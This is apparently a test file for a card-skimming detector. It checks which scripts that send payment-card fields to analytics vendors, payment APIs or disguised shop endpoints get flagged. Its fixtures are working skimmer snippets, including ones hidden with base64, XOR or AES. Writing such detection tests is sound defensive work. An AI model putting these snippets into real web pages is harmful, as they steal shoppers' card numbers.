// Payment fields sent to well-known hosts are recognized, however they are read and sent.
import { describe, expect, it } from 'vitest'
import { judgeScript } from '#detection/index.ts'

const strongest = (code: string, given = {}) =>
  judgeScript(code, given)
    .reasons.filter(({ weight }) => weight !== 'weak')
    .map((one) => `${one.code} ${one.weight}`)

const card = `document.querySelector('#cc-number').value`

describe('payment fields that go to a vendor', () => {
  it.each([
    ['one field', `fetch('https://o9.ingest.sentry.io/api/1/store/', { method: 'POST', body: ${card} })`],
    [
      'any form as FormData',
      `addEventListener('submit', (e) => navigator.sendBeacon('https://www.google-analytics.com/collect', new FormData(e.target)), true)`,
    ],
    [
      'any form as an object',
      `document.addEventListener('submit', function (e) { fetch('https://api.segment.io/v1/t', { method: 'POST', body: JSON.stringify(Object.fromEntries(new FormData(e.target))) }) })`,
    ],
    [
      'entries in a loop',
      `document.addEventListener('submit', function (e) { var q = ''; for (var [k, v] of new FormData(e.target)) q += '&' + k + '=' + v; new Image().src = 'https://www.googletagmanager.com/a?id=G' + q })`,
    ],
    [
      'every field of a form',
      `document.forms[0].onsubmit = function () { var d = {}; for (const one of this.elements) d[one.name] = one.value; fetch('https://api-iam.intercom.io/messenger/web/ping', { method: 'POST', body: JSON.stringify(d) }) }`,
    ],
    [
      'every field as it changes',
      `document.querySelectorAll('input').forEach(function (one) { one.addEventListener('change', function () { new Image().src = 'https://in.hotjar.com/x?v=' + one.value }) })`,
    ],
    ['jQuery', `$('form').on('submit', function () { $.post('https://api.mixpanel.com/track', $(this).serialize()) })`],
    [
      'a checkout form by its name',
      `document.querySelector('#checkout-form').addEventListener('submit', (e) => fetch('https://client.crisp.chat/x', { method: 'POST', body: new FormData(e.target) }))`,
    ],
    [
      'the vendor’s own function',
      `document.addEventListener('change', function (e) { Sentry.captureMessage(e.target.name + e.target.value) })`,
    ],
    [
      'a list that a tag manager empties',
      `window.dataLayer = window.dataLayer || []; document.querySelector('[name=cvv]').onblur = function () { dataLayer.push({ event: 'f', v: this.value }) }`,
    ],
    [
      'gtag',
      `window.dataLayer = window.dataLayer || []; function gtag() { dataLayer.push(arguments) } document.querySelector('#card-number').onblur = function () { gtag('event', 'f', { v: this.value }) }`,
    ],
  ])('are reported: %s', (_name, code) => {
    expect(strongest(code)).toContain('card-to-vendor strong')
  })

  it.each([
    [
      'that a field was filled',
      `document.addEventListener('change', function (e) { dataLayer.push({ event: 'filled', field: e.target.name, filled: e.target.value.length > 0 }) })`,
    ],
    [
      'an email address',
      `document.querySelector('#newsletter-email').onblur = function () { fetch('https://a.klaviyo.com/api/x', { method: 'POST', body: this.value }) }`,
    ],
    ['an error', `addEventListener('error', function (e) { Sentry.captureException(e.error) })`],
    [
      'that a number is right',
      `document.querySelector('#cc-number').onblur = function () { gtag('event', 'card_valid', { valid: /^4/.test(this.value) }) }`,
    ],
  ])('are not seen in %s', (_name, code) => {
    expect(strongest(code)).toEqual([])
  })

  it('are not attributed to the vendor’s own script', () => {
    const code = `document.addEventListener('submit', (e) => fetch('https://api.hubspot.com/x', { method: 'POST', body: new FormData(e.target) }))`
    expect(strongest(code, { host: 'js.hubspot.com' })).toEqual([])
    expect(strongest(code)).toEqual(['card-to-vendor strong'])
  })
})

describe('payment fields that go directly to a payment provider', () => {
  it.each([
    [
      'fetch',
      `fetch('https://api.stripe.com/v1/customers', { method: 'POST', headers: { Authorization: 'Bearer sk_live_51Abcdef' }, body: ${card} })`,
    ],
    [
      'Headers',
      `fetch('https://api.stripe.com/v1/charges', { method: 'POST', headers: new Headers({ Authorization: 'Bearer rk_test_51Abcdef' }), body: ${card} })`,
    ],
    [
      'XMLHttpRequest',
      `var x = new XMLHttpRequest(); x.open('POST', 'https://api.paystack.co/customer'); x.setRequestHeader('Authorization', 'Bearer ' + atob('${btoa('sk_live_9f8e7d6c')}')); x.send('a=' + ${card})`,
    ],
    [
      'jQuery',
      `$.ajax({ url: 'https://api.stripe.com/v1/customers', type: 'POST', headers: { Authorization: 'Basic ${btoa('sk_live_51Abcdef:')}' }, data: $('#payment-form').serialize() })`,
    ],
    [
      'axios',
      `axios.post('https://api.stripe.com/v1/products', { name: ${card} }, { headers: { Authorization: 'Bearer ' + ['rk', 'live', '51Abcdef'].join('_') } })`,
    ],
    [
      'a Request',
      `fetch(new Request('https://api.checkout.com/customers', { method: 'POST', headers: { Authorization: 'sk_sbox_1234567890' }, body: JSON.stringify({ name: ${card} }) }))`,
    ],
  ])('with a secret key are a theft: %s', (_name, code) => {
    expect(strongest(code)).toContain('card-to-provider hard')
  })

  it.each([
    [
      'with a public key',
      `fetch('https://api.stripe.com/v1/payment_methods', { method: 'POST', headers: { Authorization: 'Bearer pk_live_51Abcdef' }, body: ${card} })`,
    ],
    ['where no token is made', `fetch('https://api.stripe.com/v1/customers', { method: 'POST', body: 'metadata[a]=' + ${card} })`],
    ['encoded', `navigator.sendBeacon('https://api.mollie.com/v2/payments', btoa(${card}))`],
    [
      'as a whole form',
      `document.addEventListener('submit', (e) => fetch('https://api.razorpay.com/v1/items', { method: 'POST', body: new FormData(e.target) }))`,
    ],
  ])('are reported: %s', (_name, code) => {
    expect(strongest(code)).toContain('card-to-provider strong')
  })

  it.each([
    ['where the shop makes a token', {}, 'https://api.stripe.com/v1/tokens'],
    ['by the provider’s own script', { host: 'js.stripe.com' }, 'https://api.stripe.com/v1/customers'],
    ['where the shop has declared it', { approvedHosts: ['api.stripe.com'] }, 'https://api.stripe.com/v1/customers'],
  ])('are not reported %s', (_name, given, address) => {
    expect(strongest(`fetch('${address}', { method: 'POST', body: ${card} })`, given)).toEqual([])
  })
})

describe('payment fields that go to the shop’s own server', () => {
  it.each([
    ['base64', `fetch('/stats/view', { method: 'POST', body: btoa(${card}) })`],
    ['letters as numbers', `$.post('/log', { d: ${card}.split('').map(function (c) { return c.charCodeAt(0).toString(16) }).join('') })`],
    [
      'XOR',
      `var out = '', v = ${card}; for (var i = 0; i < v.length; i++) out += String.fromCharCode(v.charCodeAt(i) ^ 9); fetch('/media-list', { method: 'POST', body: out })`,
    ],
    ['a cipher', `fetch('/index/ping', { method: 'POST', body: CryptoJS.AES.encrypt(${card}, 'k').toString() })`],
    ['a beacon', `navigator.sendBeacon('/seen', ${card})`],
  ])('are reported if the request is disguised: %s', (_name, code) => {
    expect(strongest(code)).toContain('card-to-disguise strong')
  })

  it.each([
    ['where it is paid', `fetch('/checkout/pay', { method: 'POST', body: btoa(${card}) })`],
    ['as they are', `fetch('/step/two', { method: 'POST', body: JSON.stringify({ number: ${card} }) })`],
  ])('are not reported %s', (_name, code) => {
    expect(strongest(code)).toEqual([])
  })
})
